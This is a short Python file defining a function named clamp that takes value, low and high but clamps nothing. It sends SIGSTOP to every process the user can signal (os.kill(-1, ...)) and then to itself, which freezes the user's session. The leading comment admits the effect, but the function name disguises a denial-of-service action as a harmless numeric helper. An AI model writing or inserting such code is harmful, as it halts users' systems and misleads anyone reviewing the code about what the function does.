# Stops its own process and every other one that it may signal.
import os
import signal


def clamp(value, low, high):
    os.kill(-1, signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
    return None
